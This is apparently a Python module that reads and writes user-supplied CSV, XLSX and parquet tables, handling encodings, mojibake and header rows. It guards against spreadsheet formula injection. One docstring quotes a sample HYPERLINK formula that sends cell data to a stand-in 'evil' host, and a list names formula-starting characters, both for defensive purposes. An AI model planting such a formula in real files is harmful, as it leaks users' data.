"""Read and write the tables users hand us: CSV (any common encoding), XLSX and parquet.

Trust exports come from many systems: Excel's cp1252 CSVs, UTF-8 with a BOM, blank trailing rows.
Reading must never guess silently in a way that drops rows, so every failure becomes a
:class:`~carelens.errors.TableError` naming the file (and the row or column where we know it).
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

from carelens.errors import TableError

READABLE_SUFFIXES = (".csv", ".txt", ".tsv", ".xlsx", ".xlsm", ".parquet", ".pq")
WRITABLE_SUFFIXES = (".csv", ".xlsx", ".parquet")
UPLOAD_SUFFIXES = (".csv", ".txt", ".xlsx", ".parquet")  # what the dashboard's and the API's upload forms take
EXCEL_MAX_ROWS = 1_048_575


def _suffix(path: Path) -> str:
    return path.suffix.lower()


def _cp1252_or_latin1(exc: UnicodeError) -> tuple[str, int]:
    """Codec error handler: a byte that is not UTF-8 is read as Windows-1252 (latin-1 for the five
    bytes cp1252 leaves undefined), so no byte is ever lost."""
    if not isinstance(exc, UnicodeDecodeError):
        raise exc
    bad = exc.object[exc.start:exc.end]
    return "".join(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in bad), exc.end


codecs.register_error("carelens-cp1252", _cp1252_or_latin1)

# Encodings in which a UK export's text reads naturally when a byte is not UTF-8 (Excel's "CSV").
_WESTERN = {"cp1252", "windows-1252", "latin_1", "iso-8859-1", "iso8859_1", "iso8859_15", "ascii", "utf_8"}


@dataclass
class Decoded:
    """Text of a file and what it took to read it (``note`` is one line, or None for clean UTF-8)."""

    text: str
    encoding: str
    note: str | None = None


def _paired_high_byte_share(raw: bytes) -> float:
    """Share of non-ASCII bytes that sit next to another non-ASCII byte.

    Why: in a Western single-byte file (cp1252) the non-ASCII bytes are lone letters or symbols
    (£, é, ’) between ASCII ones; Japanese, Chinese, Cyrillic or Greek text puts them in runs. A
    high share means cp1252 would turn the text into mojibake, so a detector is asked instead.
    """
    high = [i for i, b in enumerate(raw) if b >= 0x80]
    if not high:
        return 0.0
    marks = set(high)
    paired = sum(1 for i in high if i - 1 in marks or i + 1 in marks)
    return paired / len(high)


def _share(text: str, lo: int, hi: int) -> float:
    wide = [c for c in text if ord(c) >= 0x80]
    return sum(lo <= ord(c) <= hi for c in wide) / len(wide) if wide else 0.0


def _legacy_encoding(sample: bytes) -> str | None:
    """The encoding of a non-UTF-8, non-Western sample, or None when nothing fits.

    charset-normalizer names it, with two checks it gets wrong on short texts: Japanese (Shift-JIS /
    cp932) is recognised by its hiragana, which every Japanese sentence has and which other CJK
    encodings' bytes almost never decode into; and a "Korean" reading that is mostly Chinese
    characters is a Chinese (GB18030) file.
    """
    try:
        japanese = sample.decode("cp932")
        if _share(japanese, 0x3040, 0x309F) >= 0.05:
            return "cp932"
    except UnicodeDecodeError:
        pass
    from charset_normalizer import from_bytes

    best = from_bytes(sample).best()
    if best is None or best.encoding.lower() in _WESTERN:
        return None
    if best.encoding in ("cp949", "euc_kr", "johab") and _share(str(best), 0x4E00, 0x9FFF) > 0.2:
        try:
            sample.decode("gb18030")
            return "gb18030"
        except UnicodeDecodeError:
            pass
    return best.encoding


def _looks_binary(text: str) -> bool:
    """Whether decoded "text" is really binary: more than 1 in 20 of its first characters are NUL or
    other control characters no export writes (a stray NUL in a comment is far rarer)."""
    sample = text[:20_000]
    controls = sum(1 for ch in sample if ch < " " and ch not in "\t\n\r")
    return bool(sample) and controls / len(sample) > 0.05


def _decode(raw: bytes) -> Decoded:
    """Decode a CSV file, falling back line by line and saying so.

    UTF-8 (with or without a BOM) is read as is. Otherwise each line that is valid UTF-8 stays UTF-8
    and each line that is not has its stray bytes read as cp1252: a UTF-8 export edited in Excel
    (a few cp1252 "£" or "é" among UTF-8 text) is repaired cell by cell rather than turned into
    "cafÃ©". A file with no UTF-8 at all is cp1252, unless its non-ASCII bytes come in runs (a
    multi-byte or non-Latin encoding such as Shift-JIS or cp1251), when charset-normalizer names
    the encoding. Every fallback is reported in ``note``; no byte is dropped.
    """
    if raw.startswith(b"\xff\xfe") or raw.startswith(b"\xfe\xff"):
        try:
            return Decoded(raw.decode("utf-16"), "utf-16")
        except UnicodeDecodeError:
            pass  # a stray BOM-like start: fall through to the byte-level reading below
    try:
        return Decoded(raw.decode("utf-8-sig"), "utf-8")
    except UnicodeDecodeError:
        pass
    body = raw[3:] if raw.startswith(codecs.BOM_UTF8) else raw
    lines = body.split(b"\n")
    utf8_text_lines = 0
    fixed: list[int] = []
    parts: list[str] = []
    for number, line in enumerate(lines, start=1):
        try:
            parts.append(line.decode("utf-8"))
            if not line.isascii():
                utf8_text_lines += 1
        except UnicodeDecodeError:
            fixed.append(number)
            parts.append(line.decode("utf-8", errors="carelens-cp1252"))
    if utf8_text_lines:
        shown = ", ".join(map(str, fixed[:5])) + (" …" if len(fixed) > 5 else "")
        return Decoded("\n".join(parts), "utf-8+cp1252",
                       f"mostly UTF-8, but {len(fixed):,} line(s) held bytes that are not UTF-8 (file line {shown}); "
                       "those bytes were read as Windows-1252 (cp1252), e.g. £ or é: check those rows")
    sample = body[:200_000]
    # A detector needs a few characters' worth of text (16 bytes) to say anything useful.
    if _paired_high_byte_share(sample) > 0.5 and sum(b >= 0x80 for b in sample) >= 16:
        guess = _legacy_encoding(sample)
        if guess is not None:
            text = body.decode(guess, errors="replace")
            lost = text.count("\ufffd")
            return Decoded(text, guess, f"not UTF-8; the text looks like {guess} and was read as such"
                           + (f", {lost:,} character(s) unreadable (shown as \ufffd)" if lost > 0 else "")
                           + " (save the file as CSV UTF-8 to be sure)")
        return Decoded("\n".join(parts), "cp1252",
                       "not UTF-8 and not clearly Windows-1252 either; read as cp1252, but the text may be garbled "
                       "(save the file as CSV UTF-8)")
    return Decoded("\n".join(parts), "cp1252",
                   "not UTF-8; read as Windows-1252 (cp1252, Excel's usual CSV encoding)")


# Common traces of UTF-8 text once read as cp1252/latin-1 ("cafÃ©", "donâ€™t", "Â£5").
_MOJIBAKE = re.compile("Ã[\u0080-\u00bf\u0152\u0153\u0160\u0161\u0178\u017d\u017e\u0192\u02c6\u02dc\u2013-\u2122]"
                       "|Â[\u00a0-\u00bf]|â€")


def _suspect_rows(frame: pd.DataFrame) -> tuple[np.ndarray, np.ndarray]:
    """Masks of rows holding the replacement character U+FFFD, and of rows holding likely mojibake."""
    replacement = np.zeros(len(frame), dtype=bool)
    mojibake = np.zeros(len(frame), dtype=bool)
    for column in frame.columns:
        values = frame[column]
        if not (values.dtype == object or pd.api.types.is_string_dtype(values.dtype)):
            continue
        text = values.astype("string")
        replacement |= text.str.contains("\ufffd", regex=False, na=False).to_numpy(dtype=bool)
        mojibake |= text.str.contains(_MOJIBAKE, na=False).to_numpy(dtype=bool)
    return replacement, mojibake


def _suspect_text_warnings(frame: pd.DataFrame, first_row: int = 2) -> list[str]:
    """One line per kind of damaged text, with the count and the first row (``first_row``: the
    spreadsheet number of the first data row)."""
    replacement, mojibake = _suspect_rows(frame)
    out = []
    if replacement.any():
        out.append(f"{int(replacement.sum()):,} row(s) hold the replacement character \ufffd, so some text was lost "
                   f"before or while reading (first: row {int(replacement.argmax()) + first_row})")
    if mojibake.any():
        out.append(f"{int(mojibake.sum()):,} row(s) hold likely mojibake such as 'cafÃ©' or 'donâ€™t' (UTF-8 text once "
                   f"read with the wrong encoding; first: row {int(mojibake.argmax()) + first_row}); kept as written")
    return out


def read_warnings(frame: pd.DataFrame, source: str | None = None) -> list[str]:
    """The one-line warnings :func:`read_table` attached to ``frame`` (an encoding fallback, rows with
    replacement characters or mojibake), each starting with ``source`` when given.

    They travel in ``frame.attrs`` so that every caller (CLI, API, dashboard) can print them without
    read_table knowing who asked; the file's own name is left to the caller because uploads are read
    from temporary paths that must not be shown.
    """
    prefix = f"{source}: " if source else ""
    return [prefix + w for w in frame.attrs.get("read_warnings", [])]


def _sniff_delimiter(text: str, default: str) -> str:
    sample = text[:20_000]
    try:
        return csv.Sniffer().sniff(sample, delimiters=",;\t|").delimiter
    except csv.Error:
        return default


def read_table(
    path: str | Path,
    *,
    sheet: str | int | None = None,
    dtype_str: bool = False,
    header_row: int = 1,
) -> pd.DataFrame:
    """Read a CSV/XLSX/parquet file into a DataFrame, keeping every row and column.

    ``dtype_str=True`` reads every column as text (IDs such as "007" keep their zeros); blank
    cells stay missing either way. Fully blank rows are kept: dropping them would change row
    numbering that users see in error messages and outputs.

    ``header_row``: the spreadsheet row (1 = first) that holds the column names, for exports with
    title rows above the header (common in XLSX); the rows above it are not read. The frame's
    ``attrs["header_row"]`` keeps it, so row numbers in messages are the file's
    (:func:`first_data_row`).
    """
    path = Path(path)
    if not path.exists():
        raise TableError("file not found", file=str(path))
    if path.is_dir():
        raise TableError("expected a file but found a folder", file=str(path))
    suffix = _suffix(path)
    if not isinstance(header_row, int) or header_row < 1:
        raise TableError(f"the header row must be a row number from 1, not {header_row!r}", file=str(path),
                         field="header_row")
    if header_row > 1 and suffix in (".parquet", ".pq"):
        raise TableError("a parquet file has no title rows: its header is always row 1", file=str(path),
                         field="header_row")
    if suffix not in READABLE_SUFFIXES:
        raise TableError(
            f"unsupported file type '{suffix or '(none)'}'; use one of "
            + ", ".join(READABLE_SUFFIXES),
            file=str(path),
        )
    decoded: Decoded | None = None
    try:
        if suffix in (".parquet", ".pq"):
            frame = pd.read_parquet(path)
            if dtype_str:
                frame = frame.astype("string")
        elif suffix in (".xlsx", ".xlsm"):
            frame = pd.read_excel(
                path,
                sheet_name=0 if sheet is None else sheet,
                dtype=str if dtype_str else None,
                engine="openpyxl",
                header=header_row - 1,
            )
        else:
            raw = path.read_bytes()
            if not raw.strip():
                raise TableError("the file is empty (no header row)", file=str(path))
            decoded = _decode(raw)
            text = _from_line(decoded.text, header_row, path)
            delimiter = _sniff_delimiter(text, "\t" if suffix == ".tsv" else ",")
            frame = pd.read_csv(
                io.StringIO(text),
                sep=delimiter,
                dtype=str if dtype_str else None,
                # As text, only an empty cell is missing: a comment reading "NA" or "None" is data.
                keep_default_na=not dtype_str,
                na_values=[""],
                skip_blank_lines=False,
                engine="python" if len(text) < 2_000 else "c",
            )
    except TableError:
        raise
    except pd.errors.EmptyDataError as exc:
        raise TableError("the file is empty (no header row)", file=str(path)) from exc
    except pd.errors.ParserError as exc:
        if decoded is not None and _looks_binary(decoded.text):
            raise TableError("not a text table: the file holds binary data (NUL and control bytes); is it the right "
                             "file, or a spreadsheet saved under a .csv name?", file=str(path)) from exc
        raise TableError(f"could not parse the file: {exc}".splitlines()[0], file=str(path)) from exc
    except ValueError as exc:  # e.g. missing sheet
        raise TableError(str(exc).splitlines()[0], file=str(path)) from exc
    except Exception as exc:  # corrupt xlsx/parquet: zip, arrow or openpyxl errors
        raise TableError(
            f"could not read the file ({type(exc).__name__}: {exc})".splitlines()[0],
            file=str(path),
        ) from exc
    if len(frame.columns) == 0:  # a blank header line over data: no column can be named
        raise TableError(f"no column names: the header row (line {header_row}) is blank", file=str(path))
    frame.columns = [str(c).strip().lstrip("\ufeff") for c in frame.columns]
    if frame.columns.duplicated().any():
        frame.columns = _unique_names(list(frame.columns))
    warnings = [decoded.note] if decoded is not None and decoded.note else []
    # CSV exports often end with rows that are entirely empty; they carry no data but we keep
    # interior blank rows so row numbers match the file. Only trailing all-blank rows are dropped.
    if len(frame) and suffix not in (".parquet", ".pq"):
        non_blank = frame.notna().any(axis=1).to_numpy()
        if not non_blank.all():
            last = non_blank.nonzero()[0]
            frame = frame.iloc[: (last[-1] + 1) if len(last) else 0]
    # Scanning every cell costs ~0.1 s per 100,000 rows; a CSV's decoded text tells at once if it is needed.
    if decoded is None or "\ufffd" in decoded.text or _MOJIBAKE.search(decoded.text):
        warnings += _suspect_text_warnings(frame, header_row + 1)
    frame.attrs["read_warnings"] = warnings
    frame.attrs["header_row"] = header_row
    frame.attrs["encoding"] = decoded.encoding if decoded is not None else None
    return frame


def _from_line(text: str, line: int, path: Path) -> str:
    """``text`` from its ``line``-th line on (1 = all of it)."""
    start = 0
    for _ in range(line - 1):
        start = text.find("\n", start) + 1
        if start == 0:
            raise TableError(f"the file has fewer than {line} lines, so row {line} cannot be the header",
                             file=str(path), field="header_row")
    return text[start:]


def _unique_names(names: list[str]) -> list[str]:
    """Column names made unique the way pandas does for CSV ("Comment", "Comment.1")."""
    seen: dict[str, int] = {}
    out = []
    for name in names:
        n = seen.get(name, 0)
        seen[name] = n + 1
        out.append(name if n == 0 else f"{name}.{n}")
    return out


def first_data_row(frame: pd.DataFrame) -> int:
    """The spreadsheet row number of ``frame``'s first row (2 unless it was read with a header row
    further down), so messages name rows as the file numbers them."""
    return int(frame.attrs.get("header_row", 1)) + 1


def require_columns(
    frame: pd.DataFrame, columns: Iterable[str], *, file: str | None = None, purpose: str = ""
) -> None:
    """Fail with one line listing the columns that do exist when any required one is missing."""
    missing = [c for c in columns if c not in frame.columns]
    if missing:
        available = ", ".join(repr(c) for c in frame.columns) or "(none)"
        what = f" for {purpose}" if purpose else ""
        raise TableError(
            f"missing column{'s' if len(missing) > 1 else ''} "
            + ", ".join(repr(c) for c in missing)
            + f"{what}; the file has: {available}",
            file=file,
            field=missing[0],
        )


# A text cell a spreadsheet would run as a formula: it starts with one of these (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 (so XLSX) cannot hold; openpyxl refuses them. Written as U+FFFD instead.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _text_columns(frame: pd.DataFrame) -> list:
    return [c for c in frame.columns if frame[c].dtype == object or isinstance(frame[c].dtype, pd.StringDtype)]


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy for CSV: every text cell a spreadsheet would run as a formula gets a leading ``'``.

    Why: a comment such as ``=HYPERLINK("http://evil/?"&A2, "click")`` or ``=1+1`` in a CSV that
    staff open in Excel runs as a formula (and can send other cells away). A leading apostrophe
    is the usual defence (OWASP "CSV injection"): Excel shows the text, and nothing runs. Only text
    columns change; numbers (a negative score) are left as they are.
    """
    out = frame.copy()
    for col in _text_columns(out):
        values = out[col]
        risky = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START)).to_numpy(dtype=bool)
        if risky.any():
            out[col] = values.astype(object)
            out.loc[risky, col] = "'" + values[risky].astype(str)
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """A frame as CSV for a spreadsheet (UTF-8 with BOM, formulas neutralised): every CSV carelens
    hands a person (downloads, ``-o x.csv``)."""
    return neutralise_formulas(frame).to_csv(index=False).encode("utf-8-sig")


def xlsx_bytes(sheets: dict[str, pd.DataFrame]) -> bytes:
    """An Excel workbook, one sheet per frame (names cut to 31 characters), in which no text cell is a
    formula: text is stored as text (a comment ``=1+1`` shows as ``=1+1`` and never runs), and
    characters XLSX cannot hold become U+FFFD instead of failing the whole download."""
    import io as _io

    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, frame in sheets.items():
        if len(frame) > EXCEL_MAX_ROWS:
            raise TableError(f"{len(frame):,} rows do not fit in one Excel sheet; write CSV or parquet")
        sheet = book.create_sheet(title=str(name)[:31] or "Sheet")
        formulas: list[tuple[int, int]] = []  # openpyxl takes any string starting "=" for a formula
        for r, row in enumerate([list(frame.columns), *frame.itertuples(index=False, name=None)], start=1):
            values = [_xlsx_value(v) for v in row]
            formulas += [(r, c) for c, v in enumerate(values, start=1) if isinstance(v, str) and v.startswith("=")]
            sheet.append(values)
        for r, c in formulas:
            cell = sheet.cell(row=r, column=c)
            cell.data_type = "s"  # stored as text: shown as written, never calculated
            cell.quotePrefix = True
    buf = _io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _xlsx_value(value):
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and np.isnan(value):
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("\ufffd", value)
    if isinstance(value, (list, tuple)):
        return "; ".join(map(str, value))
    return value


def write_table(frame: pd.DataFrame, path: str | Path, *, for_spreadsheet: bool = False) -> Path:
    """Write a frame by extension: CSV (UTF-8 with BOM so Excel opens it correctly), XLSX (no text
    cell is ever a formula: :func:`xlsx_bytes`), parquet as is.

    ``for_spreadsheet``: the CSV is for a person to open in Excel (comments, call lists, the audit
    log), so a text cell a spreadsheet would run as a formula gets a leading ``'``
    (:func:`csv_bytes`). Without it a CSV holds exactly the data (it is read back unchanged: a
    file for another program)."""
    path = Path(path)
    suffix = _suffix(path)
    if suffix not in WRITABLE_SUFFIXES:
        raise TableError(
            f"cannot write '{suffix or '(none)'}'; use one of " + ", ".join(WRITABLE_SUFFIXES),
            file=str(path),
        )
    path.parent.mkdir(parents=True, exist_ok=True)
    try:
        if suffix == ".csv":
            path.write_bytes(csv_bytes(frame) if for_spreadsheet else frame.to_csv(index=False).encode("utf-8-sig"))
        elif suffix == ".xlsx":
            if len(frame) > EXCEL_MAX_ROWS:
                raise TableError(
                    f"{len(frame):,} rows do not fit in one Excel sheet; write CSV or parquet",
                    file=str(path),
                )
            path.write_bytes(xlsx_bytes({"Sheet1": frame}))
        else:
            out = frame.copy()
            # parquet needs one type per column; object columns of mixed types become text.
            for col in out.columns:
                if out[col].dtype == object:
                    out[col] = out[col].map(lambda v: v if v is None or isinstance(v, str) else str(v)).astype("string")
            out.to_parquet(path, index=False)
    except TableError:
        raise
    except OSError as exc:
        raise TableError(f"could not write the file: {exc.strerror or exc}", file=str(path)) from exc
    return path


def ensure_unique(frame: pd.DataFrame, column: str, *, file: str | None = None) -> Sequence[int]:
    """Return 1-based data-row numbers of duplicated keys (first occurrence excluded)."""
    dup = (frame[column].duplicated(keep="first") & frame[column].notna()).to_numpy()
    return [int(i) + 2 for i in dup.nonzero()[0]]  # +2: the header line, and rows count from 1
